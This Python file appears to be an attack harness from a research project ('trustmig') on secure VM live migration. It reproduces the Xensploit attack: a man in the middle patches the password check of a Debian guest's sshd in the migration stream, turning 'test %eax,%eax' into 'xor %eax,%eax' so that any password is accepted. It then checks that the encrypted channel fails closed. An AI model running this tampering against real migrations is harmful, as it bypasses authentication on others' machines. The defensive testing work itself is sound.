"""Xensploit on a real sshd: the password check is patched in the passing pages (paper §6.3).

A Debian guest runs OpenSSH. Before the migration a login with a wrong password is refused
(the check works, and its code page is in the guest's page cache). A man in the middle looks for
that code page in the migration stream by its bytes, known from the same Debian package, and
turns ``test %eax,%eax`` after ``strcmp`` into ``xor %eax,%eax``. Against QEMU's plain migration
the destination guest then accepts any password, shown with the real ssh client. Against trustmig
the page is not recognisable in the encrypted stream, so the attacker overwrites bytes blindly;
the channel must fail closed and leave the guest, unchanged, on the source.
"""

from __future__ import annotations

import asyncio
import contextlib
from pathlib import Path

from trustmig.agent.client import ControlError
from trustmig.hypervisor.debian import (
    DebianImage,
    create_overlay,
    debian_definition,
    guest_ssh,
    password_login,
    wait_for_ssh,
)
from trustmig.hypervisor.devices import HostNet, stamp_disks
from trustmig.hypervisor.spec import parse_definition
from trustmig.lab.attack import Attack, Outcome
from trustmig.lab.proxy import BlindTamper, MitmProxy, Rewriter
from trustmig.lab.sshd_patch import SshdPatch, find_password_check, sshd_from_image
from trustmig.lab.targets import HONEST, OWNER, SOURCE, TENANT, LabEnv

NAME = "sshd-rewrite"
WRONG_PASSWORD = "certainly-not-the-password"
SSH_PORT = 2222
TAMPER_AT = 8 * 1024 * 1024
#: the baseline's two "hosts" forward their guests' ssh on addresses of their own
BASE_SRC, BASE_DST = HostNet("127.0.2.1"), HostNet("127.0.2.2")


def _prepare(env: LabEnv) -> tuple[DebianImage, SshdPatch]:
    image = env.debian_image()
    return image, find_password_check(sshd_from_image(image.root))


async def _wrong_login(image: DebianImage, address: str) -> bool:
    res = await asyncio.to_thread(password_login, image, address, SSH_PORT, WRONG_PASSWORD)
    return res.ok


async def _ready(image: DebianImage, address: str) -> None:
    res = await asyncio.to_thread(wait_for_ssh, image, address, SSH_PORT)
    if not res.ok:
        raise RuntimeError(f"the Debian guest's sshd on {address} never answered: {res.stderr}")


async def baseline(env: LabEnv) -> Outcome:
    image, patch = await asyncio.to_thread(_prepare, env)
    b = env.baseline
    disk = create_overlay(image, b.workdir / f"{NAME}.qcow2")
    spec = stamp_disks(parse_definition(debian_definition(NAME, image, disk, ssh_port=SSH_PORT)))
    src = await b.boot_spec(spec, BASE_SRC)
    await _ready(image, BASE_SRC.forward_address)
    before = await _wrong_login(image, BASE_SRC.forward_address)
    dst, port = await b.destination_spec(spec, BASE_DST)
    rw = Rewriter(patch.original, patch.patched)
    with MitmProxy(("127.0.0.1", port), rw) as proxy:
        prog = await b.migrate(src, proxy.address[1])
        await b.settle(dst)
    after = await _wrong_login(image, BASE_DST.forward_address)
    guest = await b.state({"source": src, "destination": dst})
    await b.close()
    Path(disk).unlink(missing_ok=True)
    return Outcome(
        compromised=after and not before,
        outcome=f"{rw.replaced} copy of sshd's password check patched in flight; a wrong "
        f"password was {'accepted' if after else 'refused'} by the migrated guest "
        f"(refused before: {not before})",
        evidence={
            "patched_in_flight": rw.replaced,
            "wrong_password_before": before,
            "wrong_password_after": after,
            "migration": prog.status,
            "patch_offset": hex(patch.file_offset),
        },
        guest=guest,
    )


async def trustmig(env: LabEnv) -> Outcome:
    image, patch = await asyncio.to_thread(_prepare, env)
    t = env.trustmig
    disk = create_overlay(image, t.workdir / f"{NAME}.qcow2")
    definition = {**debian_definition(NAME, image, disk, ssh_port=SSH_PORT), "tenant": TENANT}
    c = await t.client(SOURCE)
    try:
        await c.call("vm.define", {"definition": definition})
        await c.call("vm.start", {"name": NAME, "policy": t.cluster.signed_policy(OWNER, NAME)},
                     timeout=300)  # fmt: skip
    finally:
        await c.close()
    source_addr = t.cluster.forward_address(SOURCE)
    await _ready(image, source_addr)
    before = await _wrong_login(image, source_addr)
    tap = BlindTamper(patch.original, patch.patched, at_offset=TAMPER_AT)
    t.tap(HONEST, tap)
    try:
        res, err = await t.migrate(NAME, HONEST, {"max_bandwidth_mibps": 64})
    finally:
        t.tap(HONEST, None)
    guest = await t.state(NAME)
    accepted = {
        h: await _wrong_login(image, t.cluster.forward_address(h)) for h in (SOURCE, HONEST)
    }
    key_login = await asyncio.to_thread(guest_ssh, image, source_addr, SSH_PORT, "true")
    await _cleanup(env)
    completed = res is not None and res.get("status") == "completed"
    return Outcome(
        compromised=any(accepted.values()) or (completed and tap.tampered > 0),
        outcome=(f"migration aborted ({err}); " if not completed else "migration completed; ")
        + f"wrong password accepted: {accepted}; the owner's key login on the source: "
        f"{'works' if key_login.ok else 'fails'}",
        evidence={
            "pattern_found_in_stream": tap.replaced,
            "bytes_tampered": tap.tampered,
            "wrong_password_before": before,
            "wrong_password_after": accepted,
            "key_login_source": key_login.ok,
            "error": err,
        },
        guest=guest,
    )


async def _cleanup(env: LabEnv) -> None:
    t = env.trustmig
    await t.stop_vm(NAME)
    for host in (SOURCE, HONEST):
        c = await t.client(host)
        try:
            with contextlib.suppress(ControlError):
                await c.call("vm.undefine", {"name": NAME})
        finally:
            await c.close()


ATTACK = Attack(
    name=NAME,
    title="Xensploit on a real sshd",
    paper="A man in the middle patches the password check of the guest's sshd in the pages of "
    "a migrating VM, so that any password opens the guest afterwards (Xensploit, §6.3).",
    x805=(
        ("data_integrity", "infrastructure", "end_user"),
        ("authentication", "applications", "end_user"),
        ("access_control", "applications", "end_user"),
    ),
    baseline=baseline,
    trustmig=trustmig,
)
